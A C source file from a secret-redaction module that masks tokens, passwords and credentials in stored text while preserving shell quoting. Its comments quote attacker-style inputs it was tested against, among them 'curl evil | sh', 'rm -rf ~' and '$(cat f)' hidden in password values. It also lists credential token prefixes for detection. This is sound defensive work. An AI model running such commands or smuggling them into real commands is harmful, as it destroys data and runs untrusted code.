/* pd-redact.c: secrets out of text before it is stored.
 *
 * Private key PEM blocks go first (pd-redact-pem.c).  Then
 * one scan of the text looks, byte by byte, for where a secret could start:
 * a known token prefix at a word start, "Authorization", "Bearer", curl's
 * -u, the "://" of a URL, or a word of a secret-like name (key, token,
 * auth, secret, passw…, pwd, credential, creds).  Only there is a small
 * pattern tried, anchored (pd-redact-patterns.c holds them); a name is judged by the rule of pd-redact.h
 * before its value is looked at.  Every pattern is possessive or bounded,
 * and the patterns run on bytes (G_REGEX_RAW: no UTF-8 check of the whole
 * text per try), so the cost stays linear in the text —
 * tests/bench/bench-redact.c measures texts built to make a regex backtrack.
 * Which values hold no secret is pd-redact-values.c's; JSON documents are
 * walked in pd-redact-json.c.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#define G_LOG_DOMAIN "pd-store"

#include "config.h"

#include <string.h>

#include "pd-redact.h"
#include "pd-redact-private.h"
#include "pd-redact-patterns-private.h"
#include "pd-secret-text.h"

/* ---------------------------------------------------------------------- */
/* The scan                                                               */

typedef struct
{
  const char *text;
  gsize       len;
  GString    *out;      /* NULL until something is redacted */
  gsize       copied;   /* text[0, copied) is in out */
  guint       count;
  gboolean    joined;   /* the last match_at() found a joined word */
  gsize       tick_pos; /* backticks_before() counted the line up to here */
  guint       ticks;    /* and found this many backticks on it */
  PdRedactCommandLine line; /* the command line read forward (pd-redact-commands.c) */
  guint8     *depths;   /* in JSON strings (pd-redact-private.h; NULL: none) */
  guint8     *states;   /* the shell's reading at each byte (NULL until a mask) */
  gsize       name_start;   /* where the name or option of the value tried starts */
  gsize       refused_from; /* a value redact_span() refused starts here (G_MAXSIZE: none) */
  gsize       refused_end;  /* inside [.., refused_end) only known token shapes are tried */
  gsize       plain_from;   /* command_follows() found nothing the shell runs, */
  gsize       plain_to;     /* nor a word's end, in [plain_from, plain_to) */
} Redactor;

/* Whether the quote that opens the value at @vs (before it, or the first
 * of a joined word) closes the quote the name's word opened: in
 * echo "PGPASSWORD="reboot "x" no quoted value starts there, the shell's
 * word ends.  Counted from the quote just before the name to the value's
 * (no blank between): an odd number closes.  Escaped quotes (\" inside a
 * JSON string) are counted apart from the others, so JSON's own
 * "password":"x" and "{\"pass\":\"x\"}" open their values. */
static gboolean
quote_closes_name_word (Redactor *r,
                        gsize     vs)
{
  const char *t = r->text;
  gsize q, w = r->name_start;
  gboolean escaped;
  guint n = 0;

  if (vs > 0 && (t[vs - 1] == '"' || t[vs - 1] == '\''))
    q = vs - 1;
  else if (vs < r->len && (t[vs] == '"' || t[vs] == '\''))
    q = vs;
  else
    return FALSE;
  if (w >= q || q - w > 320)
    return FALSE;
  {
    /* nor does the shell's \" of depth 2 or more (8, 16… bytes) */
    guint depth = _pd_redact_depth_at (r->depths, q);
    gsize width = (gsize) 2 << MIN (depth, JSON_DEPTH), k = 0;

    while (k < q && k < width && t[q - 1 - k] == '\\')
      k++;
    if (depth >= 2 && k == width - 1)
      return FALSE;
  }
  escaped = q > 0 && t[q - 1] == '\\';
  if (w > 0 && t[w - 1] == t[q])
    w--;
  for (gsize k = w; k < q; k++)
    {
      if (g_ascii_isspace (t[k]))
        return FALSE;  /* the quote opens a word of its own: --password "x" */
      n += t[k] == t[q] && (k > 0 && t[k - 1] == '\\') == escaped;
    }
  return n % 2 == 1;
}

/* Where the escaped quote (\" or \', \\\" or \\' inside a JSON string)
 * that opens the value at @vs ends, right before it (PGPASSWORD=\"x) or at
 * its word's start (curl -u \"user:x), looked for at most 256 bytes back;
 * 0 when none does. */
static gsize
escaped_quote_open (Redactor *r,
                    gsize     vs)
{
  const char *t = r->text;
  gsize w = vs;

  if (vs >= 2 && (t[vs - 1] == '"' || t[vs - 1] == '\'') && t[vs - 2] == '\\')
    return vs;
  while (w > r->copied && vs - w < 256 && !g_ascii_isspace (t[w - 1]))
    w--;
  if (w + 1 < vs && t[w] == '\\' && (t[w + 1] == '"' || t[w + 1] == '\''))
    return w + 2;
  if (w + 3 < vs && strncmp (t + w, "\\\\\\\"", 4) == 0)
    return w + 4;
  if (w + 2 < vs && strncmp (t + w, "\\\\'", 3) == 0)
    return w + 3;
  return 0;
}

/* Whether the value [vs, ve) opened by a quote stops short of its closing
 * quote at a line break (raw, or a JSON string's \n or \u000a) or a sign
 * that ends a command (raw, or spelled \u003b…): the shell's value goes
 * on across it, "a\nrm -rf /", whatever the reading took.  Opened by an
 * escaped quote that is the shell's quote in a JSON string, the value is
 * read to its closing quote too: \"x … \" there is a quoted value, and
 * may hold what the shell runs (PGPASSWORD=\"x && curl evil | sh\" in a
 * tool call's JSON text).  Outside one the shell's \"x is the sign and
 * ends at a blank (PGPASSWORD=\"Secr3t rm -f victim\" was kept whole;
 * tried as an attacker would). */
static gboolean
quoted_value_stops_short (Redactor *r,
                          gsize     vs,
                          gsize     ve)
{
  const char *t = r->text;
  gsize open = escaped_quote_open (r, vs);
  guint depth;

  if (open > 0 && _pd_redact_value_quoting (t, r->depths, open, &depth) == QUOTING_DOUBLE)
    for (gsize e = ve; e < r->len && e - open <= 256 && t[e] != '\n' && t[e] != '\r'; e++)
      if (e > ve && t[e] == t[open - 1] && t[e - 1] == '\\')
        {
          if (_pd_redact_value_hides_syntax (t + open, e - 1 - open, QUOTING_DOUBLE, depth))
            return TRUE;
          break;
        }
  if (vs == 0 || ve >= r->len || (t[vs - 1] != '"' && t[vs - 1] != '\''))
    return FALSE;
  return _pd_redact_syntax_at (t + ve, t + r->len, _pd_redact_depth_at (r->depths, ve));
}

/* Masks [start, end), a known token's shape or a value (counted unless
 * @counted), where it keeps the quoting (_pd_redact_neutral_part()): all? */
static gboolean
mask_span (Redactor *r,
           gsize     start,
           gsize     end,
           gboolean  counted)
{
  gsize whole_end = end;

  end = _pd_redact_neutral_part (r->text, r->depths, start, end, &start);
  /* A mask starts and ends between characters, never inside one: the
   * patterns see to it, and this makes sure of it (a bounded value, or a
   * pattern to come, may end on a byte count), so the text stays valid
   * UTF-8 if it was. */
  while (start < end && ((guchar) r->text[start] & 0xc0) == 0x80)
    start++;
  while (end > start && end < r->len && ((guchar) r->text[end] & 0xc0) == 0x80)
    end--;
  if (r->states == NULL)
    r->states = _pd_redact_reading_states (r->text, r->len, r->depths);
  /* The last guard, whatever found the range: the shell reads what
   * follows as it did (a backslash eaten after a closing quote, a mask
   * over "# that un-commented the next line; tried as an attacker would).
   * Cut short by up to 8 characters to find such an end, or none. */
  for (guint k = 0; start < end && !_pd_redact_mask_keeps_reading (r->states, r->depths, start, end); k++)
    end = k < 8 ? (gsize) (g_utf8_find_prev_char (r->text + start, r->text + end) - r->text) : start;
  if (start == end)
    return FALSE;
  if (r->out == NULL)
    r->out = g_string_sized_new (r->len);
  /* Right after another mask, one: what both replace keeps the quoting. */
  if (!(start == r->copied && g_str_has_suffix (r->out->str, PD_REDACTED)))
    {
      g_string_append_len (r->out, r->text + r->copied, start - r->copied);
      g_string_append (r->out, PD_REDACTED);
    }
  r->copied = end;
  r->count += !counted;
  _pd_redact_command_line_masked (&r->line, r->text, start, end);
  return end == whole_end;
}

/* How many pieces of one value mask_pieces() masks after its first, and
 * how far it reads for each: bounded, so a value of quotes and backslashes
 * (a\'b\'c\'… of 4 MiB) is not read again for each of its pieces. */
#define PIECES_MAX 16
#define PIECE_READ 264

/* Masks what of [start, end) keeps the quoting (mask_span()), piece by
 * piece: a quote, a backslash or a $ that bash reads otherwise where the
 * value stands stays in sight, and the value's characters on both sides
 * of it are masked (PGPASSWORD='Ab\'Zq9C is '[REDACTED]\'[REDACTED]; the
 * part after such a sign was stored, tried as an attacker would).  The
 * first piece counts as the redaction (unless @counted), the others are
 * the same value's.  Returns where what is left in sight at the end
 * starts: @end when nothing is, @start when nothing was masked. */
static gsize
mask_pieces (Redactor *r,
             gsize     start,
             gsize     end,
             gboolean  counted)
{
  gsize at = start;

  for (guint k = 0; at < end && k <= PIECES_MAX; k++)
    {
      gsize before = r->copied;
      gsize until = k == 0 ? end : MIN (end, at + PIECE_READ);

      mask_span (r, at, until, counted || k > 0);
      if (r->copied == before || r->copied <= at)
        break;
      at = r->copied;
    }
  return at;
}

/* How far a piece of a value's word is read (PIECE_WORD_MAX), and how
 * far from that end it must stop to be sure it is whole: a quoted part
 * is 256 bytes at most, with its quotes (escaped in JSON: 264). */
#define PIECE_WORD_MAX 1024
#define PIECE_WORD_SURE 264

/* The parts of a value's word joined from @at on, to *@piece_end: FALSE
 * when none, or when the word may go on past PIECE_WORD_MAX (where it
 * ends is unsure, and it stays in sight).  Bounded: a quoted value's
 * closing quote read as opening a part read the rest of the text after
 * each value (curl -u "admin:a" repeated with nothing between: 200 KB
 * took 26.7 s; tried as an attacker would).  The bytes read count with
 * the command line's. */
static gboolean
piece_words_at (Redactor *r,
                gsize     at,
                gsize    *piece_end)
{
  gsize view = MIN (r->len, at + PIECE_WORD_MAX);
  guint parts = _pd_redact_joined_word (r->text, view, at, _pd_redact_depth_at (r->depths, at), piece_end);

  r->line.bytes_read += *piece_end - at;
  if (view < r->len && *piece_end + PIECE_WORD_SURE >= view)
    return FALSE;
  return parts > 0;
}

/* The length of the quote at @at when it closes one opened after the
 * start of the value's name or option (r->name_start), as the shell
 * reads the quotes from there, or 0: curl -u "admin:Ab\\"Zq9 is the
 * password Ab\Zq9, the word going on after the quote that closes the
 * user's (its Zq9 was stored, where PGPASSWORD="Ab\\"Zq9 is masked whole,
 * a joined word; tried as an attacker would; read as opening a part, that
 * quote also read the rest of the text).  Read through the escapes of
 * the JSON string the value is in, one deep at most (the shell's " is \"
 * there, its backslash \\); a quote before the name is its word's
 * (echo "PGPASSWORD=x"y: y is no value's). */
static gsize
closing_quote_len (Redactor *r,
                   gsize     at)
{
  const char *t = r->text;
  guint depth = _pd_redact_depth_at (r->depths, at);
  char q = 0;  /* the quote open: 0, ' " or A ($'…) */
  gboolean escape = FALSE;
  gsize k = r->name_start;

  if (depth > 1 || k >= at || at - k > 512)
    return 0;
  while (k <= at && k < r->len)
    {
      char c = t[k];
      gsize w = 1;

      if (_pd_redact_depth_at (r->depths, k) != depth || c == '\n' || c == '\r' || (depth == 1 && c == '"'))
        return 0;  /* another line, or the JSON string's own quote */
      if (depth == 1 && c == '\\')
        {
          if (k + 1 >= r->len)
            return 0;
          c = t[k + 1] == '"' || t[k + 1] == '\\' ? t[k + 1] : 'x';
          w = t[k + 1] == 'u' ? 6 : 2;
        }
      if (k == at)
        return !escape && ((c == '\'' && (q == '\'' || q == 'A')) || (c == '"' && q == '"')) ? w : 0;
      if (escape)
        escape = FALSE;
      else if (q == 0 && c == '$' && k + 1 < at && t[k + 1] == '\'')
        q = 'A', w = 2;
      else if (q == 0 && (c == '\'' || c == '"'))
        q = c;
      else if (q != '\'' && c == '\\')
        escape = TRUE;  /* in "…" it escapes $ ` " \ only, never another quote */
      else if (q == c || (q == 'A' && c == '\''))
        q = 0;
      k += w;
    }
  return 0;
}

/* The piece of a value's word the shell joins to it at @at, right after
 * what is masked of it, in [*piece, *piece_end): after a line continuation
 * (the shell takes it out), after an escaped quote (its sign; not, right
 * after the value (@first), one that closes the quote before the name:
 * echo \"PGPASSWORD=x\"y, y is no value's), or a quoted part, for a
 * pattern that reads none (curl -u user:Ab\\"efZq9A": the password is
 * Ab\efZq9A; -u user:Secr$'\t'etZ), unless its quote closes the name's
 * own word.  FALSE when none is. */
static gboolean
word_piece_at (Redactor *r,
               gsize     at,
               gboolean  first,
               gsize    *piece,
               gsize    *piece_end)
{
  const char *t = r->text;
  gsize n = first ? closing_quote_len (r, at) : 0;

  if (n > 0)
    {
      /* Past the quote, what follows it as after any piece: an escaped
       * quote ("admin:Ab"\"Zq9), a quoted part, or unquoted parts. */
      if (word_piece_at (r, at + n, FALSE, piece, piece_end))
        return TRUE;
      *piece = at + n;
      return piece_words_at (r, *piece, piece_end);
    }
  n = _pd_redact_continuation_len (t, r->len, at);
  if (n > 0)
    {
      *piece = at + n;
      return piece_words_at (r, *piece, piece_end);
    }
  n = _pd_redact_escaped_quote_len (t, r->len, at, _pd_redact_depth_at (r->depths, at));
  if (n > 0)
    {
      *piece = at + n;
      if (first && n <= 4 && quote_closes_name_word (r, *piece))
        return FALSE;
      *piece_end = _pd_redact_unquoted_end (t, r->len, *piece, _pd_redact_depth_at (r->depths, *piece));
      r->line.bytes_read += *piece_end - *piece;
      return *piece_end > *piece;
    }
  n = at < r->len && t[at] == '$' ? 1 : 0;
  if (at + n < r->len && (t[at + n] == '\'' || (t[at + n] == '"' && _pd_redact_depth_at (r->depths, at) == 0)))
    {
      *piece = at;
      return !quote_closes_name_word (r, at + n + 1) && piece_words_at (r, at, piece_end);
    }
  return FALSE;
}

/* Whether the word of a value goes on after what a mask left in sight at
 * its end, [@left, @end): nothing, or a piece (word_piece_at(), @first
 * right after the value) that starts there and reaches past it (the \'
 * of curl -u 'admin:Ab\'Zq9C, the value Ab\ read to its closing quote). */
static gboolean
word_goes_on_after (Redactor *r,
                    gsize     left,
                    gsize     end,
                    gboolean  first)
{
  gsize piece, piece_end;

  return left == end || (word_piece_at (r, left, first, &piece, &piece_end) && piece_end > end);
}

static gboolean command_follows (Redactor *r, gsize vs, gsize ve);

/* Masks the value [start, end) of a name or an option.  Masking must
 * never hide what a command runs from whoever approves it, whatever
 * reading of the quotes found the value (tried as an attacker would:
 * PGPASSWORD="x; rm -rf ~; echo " psql was shown as
 * PGPASSWORD="[REDACTED]" psql): a value that holds shell syntax
 * (_pd_redact_value_hides_syntax()), follows a quote that closes its
 * name's word or stops short of its closing quote stays as written, and
 * the scan goes on inside it for known token shapes only. */
static void
redact_span (Redactor *r,
             gsize     start,
             gsize     end)
{
  guint depth;
  PdRedactQuoting quoting = _pd_redact_value_quoting (r->text, r->depths, start, &depth);

  /* A value that holds a mask already is what an earlier redaction left:
   * masked again it changed a second redaction (a quoted part of 256 bytes
   * at most fits once masks inside it made the text shorter; found by
   * fuzz-redact). */
  if (end > start
      && (_pd_redact_value_hides_syntax (r->text + start, end - start, quoting, depth)
          || quote_closes_name_word (r, start) || quoted_value_stops_short (r, start, end)
          || g_strstr_len (r->text + start, end - start, PD_REDACTED) != NULL))
    {
      r->refused_from = start;
      r->refused_end = MAX (r->refused_end, end);
      return;
    }
  if (end > start)
    {
      gsize left = mask_pieces (r, start, end, FALSE);

      /* Nothing masked, or signs left in sight that end the word's
       * reading: where the word ends is unsure. */
      if (left == start || !word_goes_on_after (r, left, end, TRUE))
        return;
      end = left;
    }

  /* The word goes on after a line continuation, which the shell takes
   * out (PGPASSWORD=Sec\<newline>r3t is Secr3t), after an escaped quote,
   * which is its sign (PGPASSWORD=Sec\"r3t is Sec"r3t; \\\" and \\'
   * inside a JSON string), and in a quoted part joined to it: what follows
   * is masked too, the continuation or the quote left in sight, so that no
   * reading of the quotes changes (tried as an attacker would).  The scan
   * goes on after it: pd_redact() skips what is masked. */
  for (gboolean first = TRUE;; first = FALSE)
    {
      const char *t = r->text;
      gsize piece, piece_end, left;

      if (!word_piece_at (r, end, first, &piece, &piece_end)
          || _pd_redact_value_hides_syntax (t + piece, piece_end - piece, QUOTING_NONE, _pd_redact_depth_at (r->depths, piece))
          || g_strstr_len (t + piece, piece_end - piece, PD_REDACTED) != NULL)
        break;
      {
        g_autofree char *word = g_strndup (t + piece, piece_end - piece);

        if (_pd_redact_joined_holds_no_secret (word) || command_follows (r, piece, piece_end))
          break;
      }
      left = mask_pieces (r, piece, piece_end, TRUE);  /* one value, one redaction */
      if (left == piece || !word_goes_on_after (r, left, piece_end, FALSE))
        break;
      end = left;
    }
}

/* The backticks on the line of @pos before it.  Counted on from the last
 * place asked about: the places asked about go forward, but for a step
 * back inside one shell word (no line break), so the scan stays linear. */
static guint
backticks_before (Redactor *r,
                  gsize     pos)
{
  const char *t = r->text;

  if (pos < r->tick_pos && memchr (t + pos, '\n', r->tick_pos - pos) == NULL)
    for (; r->tick_pos > pos; r->tick_pos--)
      r->ticks -= t[r->tick_pos - 1] == '`';
  else if (pos < r->tick_pos)
    {
      for (r->tick_pos = pos; r->tick_pos > 0 && t[r->tick_pos - 1] != '\n'; r->tick_pos--)
        ;
      r->ticks = 0;
    }
  for (; r->tick_pos < pos; r->tick_pos++)
    {
      if (t[r->tick_pos] == '\n')
        r->ticks = 0;
      else if (t[r->tick_pos] == '`')
        r->ticks++;
    }
  return r->ticks;
}

/* Whether what the shell runs goes on the value [vs, ve) in its word:
 * -p"x"$(cat f), x`…`, -p'x'`id`, -p'a''`id`', x${y:-$(id)}, or a value
 * that ends in the $ of $(…), which a value's characters do not take.
 * Masked, the value would hide it from whoever approves the command (the
 * mask ate the $ of "[REDACTED](touch X)"; tried as an attacker would).
 * The word is read up to a blank or a sign that ends a shell word or a
 * JSON string's value (, : ] } …), at most 256 bytes.  A backtick there
 * after an odd number of them on the line closes a Markdown code span
 * (`mysql -pX` in a model's answer): that value is masked. */
static gboolean
command_follows (Redactor *r,
                 gsize     vs,
                 gsize     ve)
{
  const char *t = r->text;

  static const guint8 stops[256] = {
    ['$'] = 1, ['`'] = 1, [' '] = 1, ['\t'] = 1, ['\n'] = 1, ['\v'] = 1, ['\f'] = 1, ['\r'] = 1,
    [';'] = 1, ['&'] = 1, ['|'] = 1, [','] = 1, [':'] = 1, ['<'] = 1, ['>'] = 1,
    ['('] = 1, [')'] = 1, ['['] = 1, [']'] = 1, ['{'] = 1, ['}'] = 1,
  };
  gsize e = ve, from;

  if (ve > vs && t[ve - 1] == '$' && ve < r->len && (t[ve] == '(' || t[ve] == '{'))
    return TRUE;
  /* The pieces of one value ask about the same word, each a few bytes on
   * (\\\" repeated after PGPASSWORD=" asked 256 bytes each, 1.9 s at 4
   * MiB): what is known plain is not read again. */
  if (ve >= r->plain_from && ve < r->plain_to)
    e = r->plain_to;
  from = e;
  for (; e < r->len && e - ve < 256; e++)
    {
      if (!stops[(guchar) t[e]])
        continue;
      if (t[e] == '$' && e + 1 < r->len && (t[e + 1] == '(' || t[e + 1] == '{'))
        return TRUE;
      if (t[e] == '`')
        return backticks_before (r, e) % 2 == 0;
      if (t[e] != '$')
        break;
    }
  r->line.bytes_read += e - from;  /* counted with the command line's reading */
  r->plain_from = ve;
  r->plain_to = e;
  return FALSE;
}

/* The value [vs, ve) of curl's -u, an Authorization header, a bearer
 * token, a URL's or a .netrc line's password: masked unless it holds or is followed by what the shell runs, or
 * is a reference ($TOKEN, ${TOKEN}; not in single quotes, @single_quoted)
 * — the rule of the name rule's values, but no plain word (yes, none)
 * is let through: curl -u ci:none is a password. */
static gboolean
credential_is_secret (Redactor *r,
                      gsize     vs,
                      gsize     ve,
                      gboolean  single_quoted)
{
  g_autofree char *value = g_strndup (r->text + vs, ve - vs);

  if (command_follows (r, vs, ve) || _pd_redact_value_runs_command (value))
    return FALSE;
  return !(value[0] == '$' && !single_quoted);
}

/* Whether the value [vs, ve) match_at() found holds a secret: a joined
 * word as a whole, another as _pd_redact_value_is_secret() says. */
static gboolean
found_value_is_secret (Redactor *r,
                       gsize     vs,
                       gsize     ve)
{
  g_autofree char *value = g_strndup (r->text + vs, ve - vs);

  if (command_follows (r, vs, ve))
    return FALSE;
  if (r->joined)
    return !_pd_redact_joined_holds_no_secret (value);
  return !_pd_redact_value_is_json_gap (value)
         && _pd_redact_value_is_secret (value, vs > 0 && r->text[vs - 1] == '\'');
}

/* Whether another part of a shell word may follow the value [vs, ve)
 * found after @s (quoted when vs > s): only then is the word read part by
 * part, so a long unquoted value is not read twice. */
static gboolean
may_join (Redactor *r,
          int       s,
          int       vs,
          int       ve)
{
  const char *t = r->text;
  gsize e = (gsize) ve;

  if (vs < 0 || ve <= vs)
    return TRUE;  /* no value the pattern knows: a word of empty quotes and parts */
  if (vs > s)
    {
      /* past the closing quote (\" in JSON) */
      if (e < r->len && t[e] == '\\')
        e++;
      if (e < r->len && (t[e] == '"' || t[e] == '\''))
        e++;
      return e < r->len && !g_ascii_isspace (t[e]) && strchr (",;&|()<>{}[]`", t[e]) == NULL;
    }
  return e < r->len && strchr ("\"'$\\", t[e]) != NULL;
}

/* Tries pattern @which anchored at @pos; on a match sets [*vs, *ve), the
 * part to replace.  The regex runs on bytes over the rest of the text.  A
 * value the shell joins of parts (group "s" says where it starts) is
 * replaced whole, and r->joined says so. */
static gboolean
match_at (Redactor *r,
          guint     which,
          gsize     pos,
          gsize    *vs,
          gsize    *ve)
{
  int s_group, v_group;
  GRegex *regex = _pd_redact_get_regex (which, _pd_redact_depth_at (r->depths, pos), &s_group, &v_group);
  g_autoptr(GMatchInfo) info = NULL;
  int start = -1, end = -1;
  int s = -1, s_end = -1;

  r->joined = FALSE;
  if (regex == NULL || !g_regex_match_full (regex, r->text, (gssize) r->len, (int) pos, 0, &info, NULL))
    return FALSE;
  /* A group "v" that took no part in the match (a name with no value
   * after it) is no match, unless a joined word starts there. */
  if (v_group < 0)
    g_match_info_fetch_pos (info, 0, &start, &end);
  else if (!g_match_info_fetch_pos (info, v_group, &start, &end))
    start = end = -1;
  if (s_group >= 0 && g_match_info_fetch_pos (info, s_group, &s, &s_end) && s >= 0
      && may_join (r, s, start, end))
    {
      gsize word_end;

      if (_pd_redact_joined_word (r->text, r->len, (gsize) s, _pd_redact_depth_at (r->depths, (gsize) s), &word_end) >= 2)
        {
          r->joined = TRUE;
          *vs = (gsize) s;
          *ve = word_end;
          return TRUE;
        }
    }
  if (start < 0 || end <= start)
    return FALSE;
  *vs = (gsize) start;
  *ve = (gsize) end;
  return TRUE;
}

static inline gboolean
is_word_char (char c)
{
  return g_ascii_isalnum (c) || c == '_' || c == '-';
}

static inline gboolean
is_name_char (char c)
{
  return is_word_char (c) || c == '.';
}

static inline gboolean
is_scheme_char (char c)
{
  return g_ascii_isalnum (c) || c == '+' || c == '.' || c == '-';
}

/* Whether @text starts with @word (lower case), ASCII case-insensitively. */
static inline gboolean
starts_with_ci (const char *text,
                const char *word)
{
  for (; *word; text++, word++)
    if (_pd_redact_lower (*text) != *word)
      return FALSE;
  return TRUE;
}

static inline gboolean
starts_with_any (const char         *text,
                 const char * const *words)
{
  for (guint i = 0; words[i]; i++)
    if (strncmp (text, words[i], strlen (words[i])) == 0)
      return TRUE;
  return FALSE;
}

static gboolean
has_key_prefix (const char *p)
{
  static const char * const s[] = { "sk-", "sk_live_", "sk_test_", "shpat_", "shpss_", "shpca_", "shppa_", NULL };
  static const char * const g[] = {
    "ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-", "glptt-", "gldt-", "glrt-",
    "glcbt-", "glimt-", "glsoat-", "glffct-", "gloas-", "glagent-", "gsk_", NULL,
  };
  static const char * const a[] = { "AKIA", "ASIA", "AIza", NULL };
  static const char * const d[] = { "dop_v1_", "doo_v1_", "dor_v1_", "dckr_pat_", NULL };

  switch (*p)
    {
    case 's': return p[1] == 'k' || p[1] == 'h' ? starts_with_any (p, s) : FALSE;
    case 'r': return strncmp (p, "rk_live_", 8) == 0 || strncmp (p, "rk_test_", 8) == 0;
    case 'g': return p[1] == 'h' || p[1] == 'i' || p[1] == 'l' || p[1] == 's' ? starts_with_any (p, g) : FALSE;
    case 'n': return strncmp (p, "npm_", 4) == 0;
    case 'p': return strncmp (p, "pypi-", 5) == 0;
    case 'A': return starts_with_any (p, a);
    case 'x': return strncmp (p, "xox", 3) == 0 || strncmp (p, "xapp-", 5) == 0;
    case 'h': return strncmp (p, "hf_", 3) == 0;
    case 'S': return strncmp (p, "SG.", 3) == 0;
    case 'd': return p[1] == 'o' || p[1] == 'c' ? starts_with_any (p, d) : FALSE;
    case 'e': return strncmp (p, "eyJ", 3) == 0;
    default:  return FALSE;
    }
}

/* The word of a secret-like name that starts at @p, if any. */
static gboolean
has_name_trigger (const char *p)
{
  switch (_pd_redact_lower (*p))
    {
    case 'a': return starts_with_ci (p, "auth");
    case 'c': return starts_with_ci (p, "credential") || starts_with_ci (p, "creds");
    case 'k': return starts_with_ci (p, "key");
    case 'p': return starts_with_ci (p, "pass") || starts_with_ci (p, "pwd");
    case 's': return starts_with_ci (p, "secret");
    case 't': return starts_with_ci (p, "token");
    default:  return FALSE;
    }
}

/* Whether @name is an environment variable's (upper case, digits and
 * _ only: PGPASSWORD, PROXY_PASS), its value given to the shell right
 * after its '=' at @name_end (NAME=value, not NAME = value). */
static gboolean
shell_assignment (Redactor   *r,
                  const char *name,
                  gsize       name_end,
                  gsize       vs)
{
  for (const char *c = name; *c; c++)
    if (!(g_ascii_isupper (*c) || g_ascii_isdigit (*c) || *c == '_'))
      return FALSE;
  return r->text[name_end] == '=' && vs == name_end + 1;
}

/* Where the value [vs, ve) of @name really ends when the pattern stopped
 * short of it (ve when it did not), tried as an attacker would:
 *  - a shell assignment's value holds brackets as text (the shell does not
 *    glob an assignment: PGPASSWORD=Hunter[2x] is the password
 *    Hunter[2x]): the word to its end, when a ] closes the [ in it and no
 *    quote opens it (env['X'] is code);
 *  - pass=12,X: a count (pass=12) with more after its comma that is no
 *    other field (pass=12,fail=0) nor more numbers (pass=1,2) is a
 *    password of its own, 12,X.
 * At most 256 bytes more, to the next blank. */
static gsize
value_goes_on (Redactor   *r,
               const char *name,
               gsize       name_end,
               gsize       vs,
               gsize       ve)
{
  const char *t = r->text;
  gsize e = ve;

  if (ve + 1 < r->len && t[ve] == '[' && t[ve + 1] != '"' && t[ve + 1] != '\''
      && shell_assignment (r, name, name_end, vs))
    {
      while (e < r->len && e - ve < 256 && !g_ascii_isspace (t[e]) && strchr ("\"'`\\{}()<>,;&|", t[e]) == NULL)
        e++;
      return memchr (t + ve, ']', e - ve) != NULL ? e : ve;
    }
  if (ve < r->len && t[ve] == ',' && g_ascii_strcasecmp (name + strspn (name, "-"), "pass") == 0)
    {
      gboolean numbers = TRUE;

      while (e < r->len && e - ve < 256 && !g_ascii_isspace (t[e]) && strchr ("\"'`\\[]{}()<>;&|=", t[e]) == NULL)
        {
          numbers = numbers && (g_ascii_isdigit (t[e]) || t[e] == ',');
          e++;
        }
      if (e < r->len && t[e] == '=')
        return ve;  /* pass=12,fail=0: fields */
      return numbers || e == ve + 1 ? ve : e;
    }
  /* Signs a value's characters do not take, with more of the word after
   * them (password=abc,def, abc]def, abc{def, a vertical tab or a form
   * feed inside): the word to its end, not its first part only. */
  if (ve + 1 < r->len && strchr (",]{}\v\f", t[ve]) != NULL && t[ve] != '\0'
      && !g_ascii_isspace (t[ve + 1]) && strchr ("\"'`\\[]{}()<>,;&|", t[ve + 1]) == NULL)
    {
      while (e < r->len && e - ve < 256 && (t[e] == '\v' || t[e] == '\f' || !g_ascii_isspace (t[e]))
             && strchr ("\"'`\\()<>;&|", t[e]) == NULL
             && _pd_redact_unicode_space_len (t + e, r->len - e) == 0)
        e++;
      return e;
    }
  return ve;
}

/* Whether the name [start, end) is a JSON member's, "pass": (also
 * escaped inside a JSON string, \"pass\":): a name, not a test log's
 * "PASS: test" line. */
static gboolean
json_member_name (Redactor *r,
                  gsize     start,
                  gsize     end)
{
  const char *t = r->text;
  gsize e = end;

  if (start == 0 || t[start - 1] != '"')
    return FALSE;
  if (e < r->len && t[e] == '\\' && start >= 2 && t[start - 2] == '\\')
    e++;
  if (e >= r->len || t[e] != '"')
    return FALSE;
  for (e++; e < r->len && (t[e] == ' ' || t[e] == '\t'); e++)
    ;
  return e < r->len && t[e] == ':';
}

/* The literal default of a parameter expansion that is the whole value
 * at @vs, ${NAME:-DEFAULT} or ${NAME-DEFAULT}, in [*ds, *de); returns
 * where its word ends, after the }, or 0.  Only a plain word
 * ([A-Za-z0-9_./+=:@%-]: no quote, $, backslash, brace or blank, whose
 * quoting bash reads apart inside the braces) right before the }, and a
 * blank, a line break (in a JSON string its \n, \r or \t too), the
 * text's end or its JSON string's end right after it: masked there, [REDACTED] changes nothing of how bash reads
 * the command (PGPASSWORD=${X:-Zq9SecretTail} was stored whole: a value
 * holding ${ is never masked, /pd/redact/expansion-in-sight). */
static gsize
expansion_default (Redactor *r,
                   gsize     vs,
                   gsize    *ds,
                   gsize    *de)
{
  const char *t = r->text;
  gsize k = vs + 2;

  if (k >= r->len || t[vs] != '$' || t[vs + 1] != '{' || !(g_ascii_isalpha (t[k]) || t[k] == '_'))
    return 0;
  while (k < r->len && (g_ascii_isalnum (t[k]) || t[k] == '_') && k - vs < 68)
    k++;
  if (k < r->len && t[k] == ':')
    k++;
  if (k >= r->len || t[k] != '-')
    return 0;
  *ds = ++k;
  while (k < r->len && k - *ds < 256 && (g_ascii_isalnum (t[k]) || strchr ("_./+=:@%-", t[k]) != NULL))
    k++;
  if (k == *ds || k >= r->len || t[k] != '}')
    return 0;
  *de = k++;
  if (k < r->len && !(t[k] == ' ' || t[k] == '\t' || t[k] == '\n' || t[k] == '\r'
                      || (t[k] == '"' && _pd_redact_depth_at (r->depths, k) < _pd_redact_depth_at (r->depths, vs))
                      || (_pd_redact_depth_at (r->depths, vs) == 1 && t[k] == '\\' && k + 1 < r->len
                          && strchr ("nrt", t[k + 1]) != NULL)))
    return 0;
  return k;
}

/* A name holding a secret-like word at @i: judged whole (back to its
 * start, at most 64 bytes, dashes of a flag included), and its value tried
 * only when the name says secret.  Returns where the scan goes on. */
static gsize
try_assignment (Redactor *r,
                gsize     i)
{
  const char *t = r->text;
  gsize start = i, end = i, vs, ve;
  g_autofree char *name = NULL;
  const char *bare;

  while (start > r->copied && is_name_char (t[start - 1]) && i - start < 64)
    start--;
  r->name_start = start;
  while (end < r->len && is_name_char (t[end]) && end - start < 68)
    end++;
  if ((start > 0 && is_name_char (t[start - 1])) || end - start >= 68)
    {
      /* Too long for a name, or it begins before what is already out. */
      while (end < r->len && is_name_char (t[end]))
        end++;
      return end;
    }

  name = g_strndup (t + start, end - start);
  bare = name;
  while (*bare == '-')
    bare++;
